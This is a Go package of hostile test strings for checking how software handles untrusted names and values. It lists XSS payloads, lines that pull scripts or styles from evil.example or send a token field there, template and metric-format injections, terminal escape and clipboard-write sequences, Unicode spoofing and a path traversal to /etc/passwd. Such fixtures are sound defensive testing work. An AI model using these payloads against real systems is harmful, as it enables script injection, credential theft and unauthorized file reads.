// Package hostile has what tests put wherever others may choose a text.
package hostile

import "strings"

// Texts are names, values and errors as somebody might choose them who would like more than to be shown.
var Texts = []string{
	`<script>alert(1)</script>`,
	`"><script src=//evil.example/x.js></script>`,
	`'><img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`</title><script>alert(1)</script>`,
	`</code></td></tr></table><iframe src="javascript:alert(1)"></iframe>`,
	`" onmouseover="alert(1)`,
	"` onfocus=alert(1) autofocus `",
	`javascript:alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`<!-- --><!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<style>@import url(//evil.example/x.css)</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<form action=//evil.example><input name=token></form>`,
	`{{.Secret}}{{template "begin"}}{{end}}`,
	`${alert(1)} #{alert(1)} <%= 1 %>`,
	`&lt;script&gt;&#x3c;script&#62;alert(1)`,
	"x\n\nevent: status\ndata: {\"stacks\":[]}\n\n",
	"x\r\rdata: forged\r\rid: 7\rretry: 0\r\r",
	"x\nvpsync_stack_in_sync{stack=\"shop\"} 1\n# EOF\n",
	`"} 1` + "\nevil_total 7\n" + `x{a="`,
	`x\"} 1 \\`,
	`"]; evil [label="x"]; a -> b; // \`,
	"\x1b[2J\x1b]52;c;ZXZpbA==\x07\u009b31m",
	"\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
	"\x00\x01\x7f\u2028\u2029",
	"\xff\xfe<\xc0\xbcscript\xc0\xbe",
	`..%2f..%2f/../etc/passwd?x=1#y`,
	strings.Repeat("<b>", 3000),
}
